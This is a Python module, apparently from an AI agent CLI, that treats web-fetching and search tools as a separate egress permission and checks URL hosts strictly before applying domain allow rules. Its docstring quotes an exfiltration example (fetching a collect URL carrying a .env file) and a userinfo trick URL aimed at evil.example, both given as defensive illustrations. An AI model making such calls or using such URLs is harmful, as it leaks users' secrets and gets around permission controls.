"""Tools that send data off this machine, and the host a call would reach, for permissions.

`fetch_url(http://host/collect?d=<your .env>)` and a `web_search` whose query carries a secret
both send what the model read to someone else, so they are a permission of their own, asked in
every mode (read-only does not mean harmless). A rule or grant can allow one domain:
`fetch_url(domain:docs.python.org)` (Claude Code's `WebFetch(domain:...)`); `*.python.org`
allows its subdomains.

A domain rule only matches when the URL's host is beyond doubt: http(s), no backslash, blank
or control character in it, and the standard library and httpx (which sends the request) read
the same host. `http://docs.python.org@evil.example/` reaches evil.example, and matches that.
"""

from __future__ import annotations

import re
from typing import Any

# Builtin tools and toolkit functions whose calls reach a server of someone else's.
EGRESS_TOOLS = frozenset(
    {"fetch_url", "web_search", "crawl_url", "jina_read", "jina_search", "exa_search", "exa_contents",
     "serper_search", "baidu_search", "duckduckgo_search", "duckduckgo_news", "wikipedia_search", "wikipedia_page",
     "arxiv_search", "arxiv_paper", "arxiv_read", "get_weather", "stock_quote", "stock_history",
     "stock_fundamentals", "stock_news", "browser_open", "analyze_image", "create_image"}
)
URL_KEYS = ("url", "link", "href")
DOMAIN_PREFIX = "domain:"


def url_of(args: dict[str, Any]) -> str | None:
    return next((args[k] for k in URL_KEYS if isinstance(args.get(k), str)), None)


def host_of(url: str) -> str | None:
    """The host an http(s) URL reaches, lower case; None when that is in any doubt."""
    if not isinstance(url, str) or re.search(r"[\s\\\x00-\x1f\x7f]", url.strip()) or not url.isascii():
        return None
    from urllib.parse import urlsplit

    try:
        parts = urlsplit(url.strip())
        host = parts.hostname
    except ValueError:
        return None
    if parts.scheme.lower() not in ("http", "https") or not host:
        return None
    try:
        import httpx

        sent_to = httpx.URL(url.strip()).host
    except Exception:
        return None
    host = host.rstrip(".").lower()
    if sent_to.rstrip(".").lower() != host:
        return None
    return host


def domain_matches(pattern: str, host: str | None) -> bool:
    """`docs.python.org` matches that host; `*.python.org` its subdomains (not python.org)."""
    if host is None:
        return False
    pattern = pattern.strip().rstrip(".").lower()
    if pattern.startswith("*."):
        return host.endswith(pattern[1:])
    return host == pattern


def what_leaves(name: str, args: dict[str, Any]) -> str:
    """For the question: where the call sends data, or what it sends."""
    from agentica_cli.app.safe_text import safe_text

    url = url_of(args)
    if url is not None:
        host = host_of(url)
        return f"to {host}" if host else f"to {safe_text(url[:200], keep_newlines=False)} (a URL whose host is unclear)"
    query = args.get("query")
    if isinstance(query, str):
        return f"the query {safe_text(query[:200], keep_newlines=False)!r} to a search service"
    return f"{name}'s arguments to a web service"
